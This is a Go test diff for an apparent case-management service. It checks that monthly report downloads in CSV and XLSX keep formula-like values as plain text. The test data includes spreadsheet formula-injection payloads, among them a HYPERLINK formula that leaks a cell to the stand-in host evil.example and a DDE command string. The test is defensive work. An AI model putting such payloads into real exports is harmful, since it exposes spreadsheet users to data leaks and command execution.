@@ -19,9 +19,10 @@ import (
 	"github.com/homeward/homeward/store"
 	"github.com/homeward/homeward/store/storetest"
 	"github.com/stretchr/testify/require"
+	"github.com/xuri/excelize/v2"
 )
 
-// A value that reaches the monthly report's CSV (a country, a stage, a currency)
+// A value that reaches the statistics' CSV (a country, a programme, a currency)
 // and begins like a formula is opened by a spreadsheet as text, not run.
 func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
 	cfg, err := config.Load("", func(string) string { return "" })
@@ -31,19 +32,24 @@ func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
 	now := time.Now().UTC()
 	// The case file normally holds only validated codes; these stand for whatever
 	// got in some other way (an import, a future free-text column).
-	evil := []struct{ country, stage, currency string }{
+	evil := []struct{ country, programme, currency string }{
 		{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "@SUM(1+1)"},
 		{"-2+3", "\t=1+1", "\r=1+1"},
 	}
 	for _, e := range evil {
 		id := uuid.NewString()
-		cs := &store.Case{ID: id, Status: "active", Stage: e.stage, StageEnteredAt: now, HostCountry: "DE",
-			CountryOfReturn: e.country, SendingOffice: "DE-BER", ReceivingOffice: "GN-CKY", Programme: "REAG-GARP",
+		cs := &store.Case{ID: id, Status: "active", Stage: "Travel", StageEnteredAt: now, HostCountry: "DE",
+			CountryOfReturn: e.country, SendingOffice: "DE-BER", ReceivingOffice: "GN-CKY", Programme: e.programme,
 			Beneficiary: "{}", Household: "[]", Vulnerabilities: "[]", Consent: "{}", State: "{}", Currency: e.currency,
 			ServiceChargeCents: 15000, CreatedBy: "caseworker-de", WorkflowID: contract.WorkflowID(id), CreatedAt: now,
-			UpdatedAt: now, DepartedAt: &now}
+			UpdatedAt: now}
 		require.NoError(t, st.CreateCase(context.Background(), cs, nil,
 			func(context.Context, *store.Case) (string, error) { return "run-1", nil }))
+		sys := contract.Actor{User: "homeward", Role: "system"}
+		require.NoError(t, st.RecordChanges(context.Background(), store.Changes{CaseID: id, WrittenIn: 1,
+			State: contract.CaseState{Seq: 2, Stage: contract.StageArrival, Status: contract.StatusActive},
+			Events: []store.Event{{Key: id + "/1", Type: "registered", Actor: sys, At: now},
+				{Key: id + "/2", Type: "departed", Actor: sys, At: now}}}))
 	}
 	h := api.New(slog.New(slog.NewTextHandler(io.Discard, nil)), cfg, st, nil, codec.GenerateKeyRing()).Handler()
 	req := httptest.NewRequest("GET", "/api/v1/reports/monthly?month="+now.Format("2006-01"), nil)
@@ -69,4 +75,31 @@ func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
 	}
 	require.GreaterOrEqual(t, neutralised, 6, "each formula-like value is kept, behind an apostrophe:\n%s", rec.Body.String())
 	require.Contains(t, rec.Body.String(), `'=HYPERLINK(`)
+
+	// The workbook keeps the same values as text, never as formulas.
+	req.Header.Set("Accept", api.XLSXType)
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	require.Equal(t, http.StatusOK, rec.Code)
+	f, err := excelize.OpenReader(rec.Body)
+	require.NoError(t, err)
+	defer f.Close()
+	var seen int
+	for _, sheet := range []string{"Activity", "Money"} {
+		rows, err := f.GetRows(sheet)
+		require.NoError(t, err)
+		for r, row := range rows {
+			for c := range row {
+				cell, err := excelize.CoordinatesToCellName(c+1, r+1)
+				require.NoError(t, err)
+				formula, err := f.GetCellFormula(sheet, cell)
+				require.NoError(t, err)
+				require.Empty(t, formula, "%s!%s", sheet, cell)
+				if strings.HasPrefix(row[c], "=HYPERLINK(") {
+					seen++
+				}
+			}
+		}
+	}
+	require.Positive(t, seen, "the value is kept, as text")
 }
